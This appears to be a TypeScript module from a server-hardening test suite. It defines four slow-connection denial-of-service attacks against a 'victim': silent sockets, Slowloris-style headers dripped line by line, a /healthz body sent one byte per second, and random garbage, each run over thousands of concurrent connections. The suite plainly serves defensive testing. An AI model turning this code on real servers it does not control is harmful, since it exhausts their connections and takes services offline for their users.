/** As many connections as there are, all from one address, that say little or nothing. */
import { Buffer } from "node:buffer";
import { type Attack, closed, connectFrom, headOf, pause, repeatedly } from "./attack.ts";
import type { Victim } from "./attack.ts";

const CONNECTIONS = 4_096;
/** An attacker of one address has no more ports than this, also at ten times the size. */
const MOST = 8_000;
const DRIP_EVERY_MS = 1_000;

/** What a connection says at first, and then over and over. */
interface Manner {
  readonly summary: string;
  readonly first: (victim: Victim) => string | Uint8Array;
  readonly then: string;
}

function connections({ summary, first, then }: Manner): Attack {
  return {
    summary,
    account: false,
    async play(victim, play) {
      let opened = 0, lost = 0;
      const one = async () => {
        const socket = await connectFrom(victim, play);
        opened++;
        socket.resume();
        const words = first(victim);
        if (words.length > 0) socket.write(words);
        const over = closed(socket);
        const drip = then !== "" && setInterval(() => socket.write(then), DRIP_EVERY_MS);
        await over;
        if (drip) clearInterval(drip);
        if (!play.signal.aborted) lost++;
        await pause(100 + Math.random() * 900, play.signal);
      };
      const count = Math.min(MOST, CONNECTIONS * play.scale);
      await Promise.all(Array.from({ length: count }, () => repeatedly(play, one)));
      return { opened, lost };
    },
  };
}

export const silent = connections({
  summary: "every connection there is, silent",
  first: () => "",
  then: "",
});

export const dripping = connections({
  summary: "every connection there is, each with a body for /healthz that comes byte by byte",
  first: (victim) => `${headOf(victim, "GET /healthz")}Content-Length: 1000000\r\n\r\n`,
  then: "x",
});

export const heads = connections({
  summary: "every connection there is, each with a head that comes line by line",
  first: (victim) => headOf(victim, "GET /login"),
  then: "X-Drip: x\r\n",
});

const GARBAGE = Buffer.from(crypto.getRandomValues(new Uint8Array(4096)));

export const garbage = connections({
  summary: "every connection there is, with garbage",
  first: () => GARBAGE.subarray(Math.random() * 4000),
  then: "\n\n",
});
